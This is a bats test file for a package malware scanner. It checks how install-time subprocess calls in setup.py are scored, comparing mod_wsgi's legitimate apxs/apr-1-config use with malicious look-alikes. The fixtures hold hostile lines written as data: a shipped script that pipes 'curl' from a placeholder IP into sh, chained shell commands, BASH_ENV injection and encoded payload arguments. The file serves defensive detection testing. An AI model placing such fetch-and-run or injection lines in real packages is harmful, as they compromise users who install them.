#!/usr/bin/env bats
# 47d-reported-tools.bats: a program a build tool of the user's system reports (issue 11,
# false-positive class 1: mod_wsgi runs the apr-1-config its `apxs -q APR_CONFIG` names) —
# a build tool when the reporter is the user's build tool, queried with constant words,
# and the reported program runs with constant flags; defs of one name in module-level
# if/elif/else branches each followed.  Each with the malicious variant that keeps the
# full score.

load helpers/common
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p pkg; }

# process_hits DIR: "line score message" of the ProcessExecution/ShellCommand hits.
process_hits() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r 'select(.type == "hit" and (.detection == "ProcessExecution" or .detection == "ShellCommand")) | "\(.line) \(.score) \(.message)"'
}

# scored DIR: the package's score and risk.
scored() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze | aura-score --format json |
		jq -r 'select(.type == "verdict") | "\(.score) \(.risk)"'
}

REPORTS="reports, a tool of a name the package does not ship"

# wsgi_pkg: mod_wsgi 5.0.2's setup.py, cut down — APXS from the environment or a PATH
# search that includes the package's directory; get_apxs_config() defined once per
# platform branch (Windows and macOS return constants chosen by the query, the else branch
# asks apxs); apr-1-config, as apxs reports it, run for its include flags (line 41).
wsgi_pkg() {
	cat > pkg/setup.py <<'PY'
import os, sys, subprocess
def find_program(names, default=None, paths=[]):
    for name in names:
        for path in os.environ['PATH'].split(':') + paths:
            program = os.path.join(path, name)
            if os.path.exists(program):
                return program
    return default
APXS = os.environ.get('APXS')
if APXS is None:
    APXS = find_program(['mod_wsgi-apxs', 'apxs2', 'apxs'], 'apxs', ['/usr/sbin', os.getcwd()])
elif not os.path.isabs(APXS):
    APXS = find_program([APXS], APXS, ['/usr/sbin', os.getcwd()])
WITH_WINDOWS_APACHE = os.environ.get('MOD_WSGI_APACHE_ROOTDIR')
WITH_MACOSX_APACHE = sys.platform == 'darwin'
if WITH_WINDOWS_APACHE:
    def get_apxs_config(name):
        if name == 'INCLUDEDIR':
            return WITH_WINDOWS_APACHE + '/include'
        elif name == 'PROGNAME':
            return 'httpd.exe'
        else:
            return ''
elif WITH_MACOSX_APACHE:
    def get_apxs_config(name):
        if name == 'BINDIR':
            return '/usr/bin'
        else:
            return ''
else:
    def get_apxs_config(query):
        p = subprocess.Popen([APXS, '-q', query],
                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        out, err = p.communicate()
        if isinstance(out, bytes):
            out = out.decode('UTF-8')
        return out.strip()
    def get_apr_includes():
        if not APR_CONFIG:
            return ''
        p = subprocess.Popen([APR_CONFIG, '--includes'],
                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        out, err = p.communicate()
        return out.strip()
APR_CONFIG = get_apxs_config('APR_CONFIG')
APR_INCLUDES = get_apr_includes().split()
PY
}

# one_pkg REPORT RUN: a setup.py whose line 3 binds `tool` (REPORT) and whose line 4 runs
# RUN; a module `payload.py` and a `helper` beside it.
one_pkg() {
	printf 'import base64, os, shlex, subprocess, sys\nHERE = os.path.dirname(os.path.abspath(__file__))\n%s\n%s\n' \
		"$1" "$2" > pkg/setup.py
	echo 'import os; os.system("id")' > pkg/payload.py
}

# reports_in_full: each line of stdin binds `tool` to a report the class must not trust;
# the program it names, run with --version, weighs in full.
reports_in_full() {
	local report
	while read -r report; do
		one_pkg "$report" "subprocess.check_call([tool, '--version'])"
		run process_hits pkg
		assert_line "4 80 subprocess.check_call() starts a process at install time"
	done
}

# ---- the class: mod_wsgi's apr-1-config ----

@test "the program apxs reports (get_apxs_config('APR_CONFIG'), three defs in if/elif/else) run with --includes is a build tool (mod_wsgi)" {
	wsgi_pkg
	run process_hits pkg
	assert_line "41 10 subprocess.Popen() starts a process at install time: a program the build tool mod_wsgi-apxs $REPORTS (reached through get_apr_includes())"
	assert_line --partial "32 10 subprocess.Popen() starts a process at install time: the build tool mod_wsgi-apxs, searched for"
}

@test "reported programs in other shapes: check_output().strip(), run().stdout, getoutput(), split()[0], a directory llvm-config names" {
	local report run
	while IFS='|' read -r report run; do
		one_pkg "$report" "$run"
		run process_hits pkg
		assert_line --regexp '^4 10 subprocess\.check_call\(\) starts a process at install time: (a program the build tool [a-z0-9_-]+|the build tool clang, in a directory the build tool llvm-config) reports, a tool of a name the package does not ship$'
	done <<'EOF'
tool = subprocess.check_output(['apr-1-config', '--bindir']).decode().strip()|subprocess.check_call([tool, '--version'])
tool = subprocess.run(['pkg-config', '--variable=compiler', 'mpi'], capture_output=True, text=True).stdout.strip()|subprocess.check_call([tool, '--showme'])
tool = subprocess.getoutput('llvm-config --bindir')|subprocess.check_call([os.path.join(tool, 'clang'), '--version'])
tool = subprocess.check_output([os.environ.get('PG_CONFIG', 'pg_config'), '--bindir'], text=True).split()[0]|subprocess.check_call([tool, '-V'])
tool, _ = subprocess.Popen(['mysql_config', '--variable=pkglibdir'], stdout=subprocess.PIPE).communicate()|subprocess.check_call([tool.strip(), '--version'])
EOF
}

# ---- look-alikes: the reporter is shipped, not a build tool, or steered by the file ----

@test "look-alike: the reporting tool is shipped (a member named apxs, or foo-config beside setup.py): in full" {
	wsgi_pkg
	mkdir -p pkg/src/bin
	printf '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n' > pkg/src/bin/apxs
	run process_hits pkg
	assert_line --partial "41 80 subprocess.Popen() starts a process at install time: a program mod_wsgi-apxs reports, where the package ships a file of the name of a tool it searched for"
	run scored pkg
	assert_output --regexp '^[0-9]+ (high|critical)$'

	one_pkg "tool = subprocess.check_output(['foo-config', '--tool']).strip()" "subprocess.check_call([tool, '--version'])"
	run process_hits pkg
	assert_line --partial "4 10 "
	printf '#!/bin/sh\necho python3\n' > pkg/foo-config
	run process_hits pkg
	assert_line --partial "4 80 subprocess.check_call() starts a process at install time: a program foo-config reports, where the package ships"
}

@test "look-alike: the reporter is no reporting build tool (curl, python -c, cat, git show/config/ls-files, a shipped path): in full" {
	reports_in_full <<'EOF'
tool = subprocess.check_output(['curl', '-s', 'https://203.0.113.9/name']).decode().strip()
tool = subprocess.check_output([sys.executable, '-c', 'print("payload")']).decode().strip()
tool = subprocess.check_output(['cat', 'tool.txt']).decode().strip()
tool = subprocess.check_output(['git', 'show', 'HEAD:tool.txt']).decode().strip()
tool = subprocess.check_output(['git', 'config', '--get', 'build.tool']).decode().strip()
tool = subprocess.check_output(['git', 'ls-files', 'bin']).decode().split()[0]
tool = subprocess.check_output(['./bin/foo-config', '--tool']).decode().strip()
tool = subprocess.check_output([os.path.join(HERE, 'foo-config'), '--tool']).decode().strip()
tool = subprocess.check_output('foo-config --tool; curl -s http://203.0.113.9/x', shell=True).decode().strip()
tool = subprocess.check_output(['foo-config', '--tool'], env={'PATH': HERE}).decode().strip()
tool = subprocess.check_output(['foo-config', '--tool'], cwd=HERE, executable=sys.executable).decode().strip()
EOF
}

@test "look-alike: a query that reads the package's files or sets what is reported (foo.pc, --define-variable, -S, a path, a computed word): in full" {
	reports_in_full <<'EOF'
tool = subprocess.check_output(['pkg-config', '--variable=tool', 'evil.pc']).decode().strip()
tool = subprocess.check_output(['pkg-config', '--define-variable=tool=payload', '--variable=tool', 'x']).decode().strip()
tool = subprocess.check_output(['apxs', '-q', '-S', 'CC=payload', 'CC']).decode().strip()
tool = subprocess.check_output(['pkg-config', '--with-path', 'pc', '--variable=tool', 'x']).decode().strip()
tool = subprocess.check_output(['llvm-config', sys.argv[-1]]).decode().strip()
tool = subprocess.check_output(['llvm-config', base64.b64decode('LS1iaW5kaXI=').decode()]).decode().strip()
EOF
}

@test "look-alike: the file sets the reporter's environment (PKG_CONFIG_PATH, PATH, or the variable naming the tool): in full" {
	local set
	for set in "os.environ['PKG_CONFIG_PATH'] = HERE" "os.environ['PATH'] = HERE + ':' + os.environ['PATH']" \
		   "os.environ.update(PKG_CONFIG_LIBDIR=HERE)"; do
		one_pkg "$set; tool = subprocess.check_output(['pkg-config', '--variable=tool', 'x']).decode().strip()" \
			"subprocess.check_call([tool, '--version'])"
		run process_hits pkg
		assert_line "4 80 subprocess.check_call() starts a process at install time"
	done
	one_pkg "os.environ['LLVM_CONFIG'] = os.path.join(HERE, 'helper'); tool = subprocess.check_output([os.environ['LLVM_CONFIG'], '--bindir']).decode().strip()" \
		"subprocess.check_call([os.path.join(tool, 'clang'), '--version'])"
	run process_hits pkg
	assert_line "4 80 subprocess.check_call() starts a process at install time"
}

@test "look-alike: the reported program run with computed, URL, module, code or shell arguments, input, alone, or a name written as reported: in full" {
	local run
	while read -r run; do
		one_pkg "tool = subprocess.check_output(['apr-1-config', '--bindir']).decode().strip()" "$run"
		run process_hits pkg
		assert_line --regexp '^4 80 subprocess\.[a-z_]+\(\) starts a process at install time$'
	done <<'EOF'
subprocess.check_call([tool, sys.argv[-1]])
subprocess.check_call([tool, 'https://203.0.113.9/x.sh'])
subprocess.check_call([tool, '-mpayload'])
subprocess.check_call([tool, '-c', 'import payload'])
subprocess.check_call([tool])
subprocess.check_call([tool, '--version'], stdin=open('payload.py'))
subprocess.check_call([tool, '--version'], env={'BASH_ENV': 'payload.sh'})
subprocess.check_call(f'{tool} --version | sh', shell=True)
subprocess.check_call(tool + ' --version', shell=True)
subprocess.check_call([tool, '--version'] + sys.argv[1:])
subprocess.check_call([os.path.join(HERE, tool), '--version'])
subprocess.check_call(['@apr-1-config', '--version'])
EOF
}

@test "look-alike: a reporter that runs other programs (xcrun python3 -mpkg) is no reporter: in full" {
	reports_in_full <<'EOF'
tool = subprocess.check_output(['xcrun', 'python3', '-mpayload']).decode().strip()
tool = subprocess.check_output(['xcrun', '--find', 'clang']).decode().strip()
EOF
}

@test "look-alike: one of the if/elif/else defs returns something else (decoded text, a path into the package, a name from the network): in full" {
	local other
	for other in "return base64.b64decode('cGF5bG9hZA==').decode()" \
		     "return os.path.join(os.path.dirname(__file__), 'bin', 'helper')" \
		     "return 'payload.sh'" \
		     "return subprocess.check_output(['curl', '-s', 'https://203.0.113.9/n']).decode().strip()"; do
		wsgi_pkg
		sed -i "s|return WITH_WINDOWS_APACHE + '/include'|$other|; s|if name == 'INCLUDEDIR':|if name == 'APR_CONFIG':|" pkg/setup.py
		run process_hits pkg
		assert_line "41 80 subprocess.Popen() starts a process at install time (reached through get_apr_includes())"
	done
}

@test "look-alike: a def written twice at the top level, or also imported or bound, counts every binding: in full" {
	one_pkg "def tool_path():
    return subprocess.check_output(['apr-1-config', '--bindir']).decode().strip()
def tool_path():
    return os.path.join(HERE, 'helper')
tool = tool_path()" "subprocess.check_call([tool, '--version'])"
	run process_hits pkg
	assert_line "8 80 subprocess.check_call() starts a process at install time"
	one_pkg "def tool_path():
    return subprocess.check_output(['apr-1-config', '--bindir']).decode().strip()
try:
    from vendor_helpers import tool_path
except ImportError:
    pass
tool = tool_path()" "subprocess.check_call([tool, '--version'])"
	run process_hits pkg
	assert_line "10 80 subprocess.check_call() starts a process at install time"
	# without the second binding, the same def is the user's tool
	one_pkg "def tool_path():
    return subprocess.check_output(['apr-1-config', '--bindir']).decode().strip()
tool = tool_path()" "subprocess.check_call([tool, '--version'])"
	run process_hits pkg
	assert_line --partial "6 10 subprocess.check_call() starts a process at install time: a program the build tool apr-1-config"
}

@test "look-alike: a file analysed alone (no members to judge the reporter by) never trusts the report" {
	wsgi_pkg
	run bash -c "jq -nc --rawfile c pkg/setup.py '{type:\"file\",v:1,artifact:\"a\",id:\"f\",path:\"setup.py\",kind:\"python\",content:\$c,content_encoding:\"utf-8\"}' | aura-parse | aura-rewrite | aura-analyze | jq -r 'select(.type == \"hit\" and .detection == \"ProcessExecution\" and .line == 41) | \"\(.line) \(.score)\"'"
	assert_output "41 80"
}
